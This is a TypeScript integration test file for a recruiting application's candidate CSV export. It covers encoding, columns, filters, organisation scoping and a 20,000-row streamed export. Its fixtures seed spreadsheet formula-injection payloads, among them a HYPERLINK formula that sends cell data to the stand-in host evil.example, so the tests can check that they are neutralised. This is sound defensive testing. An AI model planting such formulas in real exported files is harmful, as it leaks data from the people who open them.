import { defaultScoringCriteria, jobMessages, pipelineMessages } from '@rw/core';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { candidateStageRecords, candidates, jobs } from '#src/db/schema/index.js';
import { createOrganisationUser, type TestUser } from '#src/test/factories.js';
import { createTestContext, type TestContext } from '#src/test/harness.js';

/*
 * POST /api/jobs/{id}/candidates/export (docs/product/pipeline.md#export): the file's bytes (byte-order
 * mark, accents, CRLF), each view's columns, the selection (ids or the list's filter), OWASP's formula rule,
 * the attachment's name, organisation scoping, and a 20,000-row export streamed in chunks.
 */

let ctx: TestContext;
let alice: TestUser; // export.test
let mallory: TestUser; // rival-export.test
let job: string;
let other: string;
let rivalJob: string;
const ids: Record<string, string> = {};

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const at = (minute: number) => new Date(Date.UTC(2026, 0, 5, 9, minute));

async function insertJob(domain: string, title: string) {
  const [row] = await ctx.db.insert(jobs).values({ title, domain }).returning({ id: jobs.id });
  return row!.id;
}
async function insertCandidate(domain: string, values: Partial<typeof candidates.$inferInsert>) {
  const [row] = await ctx.db
    .insert(candidates)
    .values({ domain, createdByEmail: `x@${domain}`, ...values })
    .returning({ id: candidates.id });
  return row!.id;
}
async function record(
  candidateId: string,
  jobId: string,
  stageId: string,
  r: Partial<typeof candidateStageRecords.$inferInsert> & { minute: number },
) {
  const { minute, ...rest } = r;
  await ctx.db.insert(candidateStageRecords).values({
    candidateId,
    jobId,
    stageId,
    stageTitle: stageId === 'glance' ? 'Glance' : 'Talent Screen',
    actionOwner: 'recruiter',
    enteredStageAt: at(minute),
    ...rest,
  });
}

const exportCsv = (user: TestUser, jobId: string, body: object) =>
  ctx.call('POST', `/api/jobs/${jobId}/candidates/export`, { cookie: user.cookie, body });

/** The file's text without its byte-order mark, as lines (no cell here holds a line break). */
const linesOf = (raw: Buffer) => raw.subarray(BOM.length).toString('utf8').split('\r\n').slice(0, -1);

beforeAll(async () => {
  ctx = await createTestContext();
  alice = await createOrganisationUser(ctx, { domain: 'export.test' });
  mallory = await createOrganisationUser(ctx, { domain: 'rival-export.test' });
  job = await insertJob('export.test', 'Payments Engineer: Backend/Platform');
  other = await insertJob('export.test', 'Data Lead');
  rivalJob = await insertJob('rival-export.test', 'Rival');

  ids.zoe = await insertCandidate('export.test', {
    firstName: 'Zoë',
    lastName: 'Núñez',
    currentTitle: 'Ingénieure',
    currentCompany: 'Société Générale',
    currentPrimaryJobId: job,
  });
  ids.evil = await insertCandidate('export.test', {
    firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    lastName: '-2+3',
    currentTitle: '+44 20 7946 0000',
    currentCompany: '@SUM(A1:A9)',
  });
  ids.tab = await insertCandidate('export.test', {
    firstName: '\t=1+1',
    lastName: '\rcmd',
    currentTitle: 'Plain, with "quotes"',
  });
  ids.moved = await insertCandidate('export.test', { firstName: 'Mo', lastName: 'Ved' });
  ids.spy = await insertCandidate('rival-export.test', { firstName: 'Spy', lastName: 'Rival' });

  await record(ids.zoe, job, 'glance', { minute: 30, overallMatch: 6.5, ac1Score: 7, ac2Score: 6 });
  await record(ids.zoe, other, 'glance', { minute: 5 });
  await record(ids.evil, job, 'glance', { minute: 20, overallMatch: 8.2 });
  await record(ids.tab, job, 'glance', { minute: 10 });
  await record(ids.moved, job, 'glance', { minute: 1, progressedAlready: true, overallMatch: 9 });
  await record(ids.moved, job, 'talent_screen', { minute: 40 });
  await record(ids.spy, rivalJob, 'glance', { minute: 1 });
}, 60_000);

afterAll(() => ctx.close());

describe('the file', () => {
  it('is UTF-8 with a byte-order mark, accents intact, CRLF lines, named after the job and stage', async () => {
    const res = await exportCsv(alice, job, {
      all_matching: { stage_id: 'glance' },
      view: 'process',
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="Payments Engineer Backend Platform - Glance.csv"; filename*=UTF-8''${encodeURIComponent('Payments Engineer Backend Platform - Glance.csv')}`,
    );
    const raw = res.rawPayload;
    expect(raw.subarray(0, 3).equals(BOM)).toBe(true);
    expect(raw.includes(Buffer.from('Zoë,Núñez,Ingénieure,Société Générale', 'utf8'))).toBe(true);
    const lines = linesOf(raw);
    expect(lines[0]).toBe(
      'First Name,Last Name,Current Title,Company,Stage,Action Owner,Total Jobs,Primary Job,Entered Stage (UTC),' +
        `${defaultScoringCriteria.map((t, i) => `AC${i + 1}: ${t}`).join(',')},Overall,Scored By,Job Score`,
    );
    // Active records of Glance, newest entered first: Mo moved on and is not in it.
    expect(lines).toHaveLength(4);
    expect(lines[1]).toBe(
      'Zoë,Núñez,Ingénieure,Société Générale,Glance,recruiter,2,Yes,2026-01-05 09:30,7,6,,,,6.5,AI,',
    );
  });

  it("neutralises cells a spreadsheet would run as formulas (OWASP): = + - @, tab and CR get a leading '", async () => {
    const res = await exportCsv(alice, job, { candidate_ids: [ids.evil, ids.tab], view: 'process' });
    expect(res.statusCode).toBe(200);
    const text = res.rawPayload.subarray(BOM.length).toString('utf8');
    expect(text).toContain(
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",'-2+3,'+44 20 7946 0000,'@SUM(A1:A9),Glance`,
    );
    expect(text).toContain(`'\t=1+1,"'\rcmd","Plain, with ""quotes""",,Glance`);
    // No cell of the file starts with a formula character.
    const cells = text.split(/,|\r\n/).map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});

describe('columns', () => {
  it('Other Jobs: the candidate, the stage here, up to three other jobs with their stage, then the scores', async () => {
    const res = await exportCsv(alice, job, {
      candidate_ids: [ids.zoe],
      stage_id: 'glance',
      view: 'other_jobs',
    });
    const lines = linesOf(res.rawPayload);
    expect(
      lines[0]?.startsWith('Candidate,Stage,Other Job 1,Other Job 2,Other Job 3,Entered Stage (UTC),AC1'),
    ).toBe(true);
    expect(lines[1]).toBe('Zoë Núñez,Glance,Data Lead (Glance),,,2026-01-05 09:30,7,6,,,,6.5,AI,');
  });

  it('Score: best Overall first, unscored last, then stage, action owner and entered', async () => {
    const res = await exportCsv(alice, job, { all_matching: { stage_id: 'glance' }, view: 'score' });
    const lines = linesOf(res.rawPayload);
    expect(lines[0]).toBe(
      `Candidate,${defaultScoringCriteria.map((t, i) => `AC${i + 1}: ${t}`).join(',')},Overall,Scored By,Job Score,Stage,Action Owner,Entered Stage (UTC)`,
    );
    expect(lines.slice(1).map((l) => l.split(',').at(-4))).toEqual(['', '', '']);
    // The third name holds a CR, so its cell is quoted.
    expect(lines.slice(1).map((l) => l.slice(0, 4))).toEqual([`"'=H`, 'Zoë ', `"'\t=`]);
  });
});

describe('the selection', () => {
  it('takes the list filter: status and score bounds (unscored records fail an active bound)', async () => {
    const moved = await exportCsv(alice, job, {
      all_matching: { stage_id: 'glance', status: 'moved_on' },
      view: 'process',
    });
    expect(linesOf(moved.rawPayload).slice(1)).toEqual([expect.stringMatching(/^Mo,Ved,/)]);
    const above = await exportCsv(alice, job, {
      all_matching: { stage_id: null, score_min: 7 },
      view: 'process',
    });
    expect(linesOf(above.rawPayload).slice(1)).toEqual([expect.stringMatching(/^"'=HYPERLINK/)]);
    expect(above.headers['content-disposition']).toContain('All stages.csv');
  });

  it("takes each candidate's current record when ids come without a stage", async () => {
    const res = await exportCsv(alice, job, { candidate_ids: [ids.moved], view: 'process' });
    expect(linesOf(res.rawPayload).slice(1)).toEqual([
      expect.stringMatching(/^Mo,Ved,,,Talent Screen,recruiter,1,,2026-01-05 09:40,/),
    ]);
  });

  it("lists a record stored without a title under its stage's title in the job's process", async () => {
    const untitled = await insertCandidate('export.test', { firstName: 'Una', lastName: 'Titled' });
    await record(untitled, job, 'profile_review', { minute: 50, stageTitle: null });
    const res = await exportCsv(alice, job, { candidate_ids: [untitled], view: 'process' });
    expect(linesOf(res.rawPayload).slice(1)).toEqual([
      expect.stringMatching(/^Una,Titled,,,Profile Review,/),
    ]);
  });

  it('needs exactly one of candidate_ids and all_matching', async () => {
    for (const body of [
      { view: 'process' },
      { view: 'process', candidate_ids: [ids.zoe], all_matching: { stage_id: null } },
    ]) {
      const res = await exportCsv(alice, job, body);
      expect(res.statusCode).toBe(400);
      expect(res.json().error.message).toContain(pipelineMessages.noSelection);
    }
  });
});

describe('organisations', () => {
  it("answers 404 for another organisation's job, and lists nothing of its candidates", async () => {
    const res = await exportCsv(mallory, job, { all_matching: { stage_id: null }, view: 'process' });
    expect(res.statusCode).toBe(404);
    expect(res.json().error.message).toBe(jobMessages.notFound);
    const theirs = await exportCsv(alice, job, { candidate_ids: [ids.spy], view: 'process' });
    expect(theirs.statusCode).toBe(200);
    expect(linesOf(theirs.rawPayload)).toHaveLength(1);
    const mine = await exportCsv(mallory, rivalJob, { candidate_ids: [ids.zoe, ids.spy], view: 'process' });
    expect(linesOf(mine.rawPayload).slice(1)).toEqual([expect.stringMatching(/^Spy,Rival,/)]);
  });
});

describe('a large export', () => {
  it('streams 20,000 rows, the most one export holds, in the list order', async () => {
    const big = await insertJob('export.test', 'Volume Hiring');
    await ctx.db.execute(sql`
      with made as (
        insert into candidates (first_name, last_name, domain, created_by_email)
        select 'Bulk', 'Row ' || lpad(g::text, 5, '0'), 'export.test', 'x@export.test'
        from generate_series(1, 20001) g
        returning id, last_name
      )
      insert into candidate_stage_records (candidate_id, job_id, stage_id, stage_title, entered_stage_at)
      select id, ${big}::uuid, 'glance', 'Glance',
        timestamptz '2026-01-01' + (substr(last_name, 5)::int * interval '1 second')
      from made`);
    const res = await exportCsv(alice, big, { all_matching: { stage_id: 'glance' }, view: 'process' });
    expect(res.statusCode).toBe(200);
    const lines = linesOf(res.rawPayload);
    expect(lines).toHaveLength(20_001);
    expect(lines[1]?.startsWith('Bulk,Row 20001,')).toBe(true);
    expect(lines[20_000]?.startsWith('Bulk,Row 00002,')).toBe(true);
  }, 120_000);
});
